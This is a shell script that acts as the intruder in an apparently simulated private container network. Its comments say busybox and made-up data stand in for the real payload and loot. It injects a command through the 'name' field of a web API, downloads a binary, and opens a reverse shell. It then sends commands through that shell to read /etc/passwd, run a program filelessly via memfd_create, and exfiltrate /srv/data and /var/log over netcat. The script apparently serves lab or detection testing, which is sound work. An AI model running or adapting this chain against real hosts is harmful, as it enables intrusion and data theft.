#!/bin/sh
# The intruder, in a container of the same private network. Harmless stand-ins only: busybox as the dropped program, made-up data as the loot.
mkdir -p /stage && cp /bin/busybox /stage/nc && cd /stage
busybox httpd -p 8000 -h /stage
nc -l -p 9000 > /stage/loot &
# what is typed into the reverse shell
(
  sleep 2
  echo 'id; cat /etc/passwd; ls -la /srv/data'
  sleep 2
  echo 'python3 -c "import os; f=os.memfd_create(\"k\"); os.write(f, open(\"/bin/busybox\",\"rb\").read()); os.execv(\"/proc/self/fd/%d\" % f, [\"sleep\", \"2\"])"'
  sleep 2
  echo 'tar cf - /srv/data /var/log | nc -q 1 intruder 9000'
  sleep 4
  echo exit
) | nc -l -p 4444 > /stage/shell.log &
sleep 1
inject='x; (curl -s http://intruder:8000/nc -o /tmp/nc && chmod 755 /tmp/nc && /tmp/nc intruder 4444 -e /bin/sh) >/dev/null 2>&1 & echo y'
curl -sG http://web/api/report --data-urlencode "name=$inject"
sleep 14
